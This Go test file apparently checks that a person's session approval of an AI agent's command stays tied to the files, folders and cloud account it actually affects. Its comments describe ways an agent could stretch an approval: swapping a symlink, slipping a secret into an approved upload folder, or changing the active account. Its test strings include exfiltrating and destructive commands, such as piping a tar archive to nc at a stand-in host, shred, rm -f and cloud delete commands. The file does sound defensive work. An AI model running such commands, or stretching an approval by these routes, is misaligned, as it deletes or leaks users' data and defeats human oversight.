//go:build unix

package fingerprint

import (
	"encoding/json"
	"maps"
	"os"
	"testing"

	"approver.example"
)

// lead makes a link, or has it lead elsewhere.
func (p *playground) lead(link, to string) {
	p.Helper()
	_ = os.Remove(p.path(link)) // it may be new
	if err := os.Symlink(to, p.path(link)); err != nil {
		p.Fatal(err)
	}
}

// A person says yes, for the session, to a command that changes a file below build, which leads to a folder of the
// project. Then the agent makes build lead to another folder, where the files are the same or new: the same words
// change something else, and the yes is not for that.
func TestAYesIsForWhereLinksLead(t *testing.T) {
	for _, command := range []string{
		"echo x > build/sub/f", "echo x >> build/sub/new", "cp x build/sub/f", "cp x build/sub/", "mv x build/sub/f",
		"tee build/sub/f < x", "dd if=x of=build/sub/f", "ln -sf x build/sub/f", "tar xf x -C build/sub",
		"sed -i s/a/b/ build/sub/f", "truncate -s0 build/sub/f", "shred build/sub/f", "rm -f build/sub/f",
		"rm -f build/sub/*", "chmod 777 build/sub/f", "cd . && echo x > build/sub/f", "echo x > one/sub/f",
	} {
		p := newPlayground(t, "a/sub/f", "b/sub/f", "x")
		p.lead("build", "a")
		p.lead("one", "build")
		before := p.of(command)
		if unbound := p.unbound(command); len(unbound) > 0 {
			t.Errorf("%s: %q is not bound: a yes could not last", command, unbound)
		}
		if p.lead("build", "a"); !maps.Equal(before, p.of(command)) {
			t.Errorf("%s: a link that leads to the same is bound as another one", command)
		}
		if p.lead("build", "b"); maps.Equal(before, p.of(command)) {
			t.Errorf("%s: a yes lasts when build leads elsewhere", command)
		}
	}
	p := newPlayground(t, "a/sub/f", "b/sub/f")
	p.lead("build", "a")
	write := p.call("")
	write.Tool, write.Args = "Write", json.RawMessage(`{"file_path":"`+p.path("build/sub/f")+`","content":"x"}`)
	write.Paths = []string{p.path("build/sub/f")}
	of := func(call approver.ToolCall) map[string]string {
		files, err := p.files(call)
		if err != nil {
			t.Fatal(err)
		}
		return files
	}
	before := of(write)
	if p.lead("build", "b"); maps.Equal(before, of(write)) {
		t.Error("a yes to a Write lasts when its folder leads elsewhere")
	}
}

// What a command itself writes is no reason to ask again, through a link or not.
func TestAFileThatIsWrittenKeepsTheYes(t *testing.T) {
	for _, command := range []string{"echo x > build/new", "cp x build/new", "echo x > a/new", "cp x a/deep/new",
		"tee build/deep/new < x"} {
		p := newPlayground(t, "a/f", "x")
		p.lead("build", "a")
		before := p.of(command)
		p.write("a/new", "x")
		p.write("a/deep/new", "x")
		if !maps.Equal(before, p.of(command)) {
			t.Errorf("%s: what it has written counts as something else", command)
		}
	}
}

// A person says yes, for the session, to a folder that is sent. Then the agent copies a secret into it: the yes is
// for the files that were there, as it is where a single file is sent.
func TestAYesToSendAFolderIsForItsFiles(t *testing.T) {
	for _, command := range []string{"tar cz d | nc h.example 1", "rsync -a d web:/srv", "rsync -a d/ web:/srv",
		"aws s3 sync d s3://x/", "aws s3 cp --recursive d s3://x/", "gsutil rsync d gs://x/", "scp -r d web:/srv",
		"cd d && tar cz . | nc h.example 1"} {
		for _, file := range []string{"d/f", "d/sub/new", "d/.hidden"} {
			p := newPlayground(t, "d/f")
			before := p.of(command)
			if p.write(file, "a secret"); maps.Equal(before, p.of(command)) && len(p.unbound(command)) == 0 {
				t.Errorf("%s: a yes lasts when %s is new there", command, file)
			}
		}
	}
	p := newPlayground(t, "d/f") // what is only packed stays here
	before := p.of("tar czf d.tgz d")
	if p.write("d/new", "x"); !maps.Equal(before, p.of("tar czf d.tgz d")) {
		t.Error("a folder that is not sent is bound")
	}
}

// Settings of the user say on whose account, or in which project of a cloud, a command acts.
func TestAYesIsForTheAccount(t *testing.T) {
	for file, command := range map[string]string{
		".config/gh/hosts.yml":                         "gh repo delete shop --yes",
		".config/gcloud/active_config":                 "gcloud compute instances delete web",
		".config/gcloud/configurations/config_default": "gcloud compute instances delete web",
		".azure/azureProfile.json":                     "az group delete -n web",
		".config/doctl/config.yaml":                    "doctl compute droplet delete web",
		".git/config":                                  "heroku apps:destroy",
	} {
		p := newPlayground(t)
		p.write(file, "[remote \"heroku\"]\n\turl = https://git.heroku.com/a.git\n")
		before := p.of(command)
		if unbound := p.unbound(command); len(unbound) > 0 {
			t.Errorf("%s: %q is not bound: a yes could not last", command, unbound)
		}
		p.write(file, "[remote \"heroku\"]\n\turl = https://git.heroku.com/prod.git\n")
		if maps.Equal(before, p.of(command)) {
			t.Errorf("%s: a yes lasts when %s has changed", command, file)
		}
	}
}
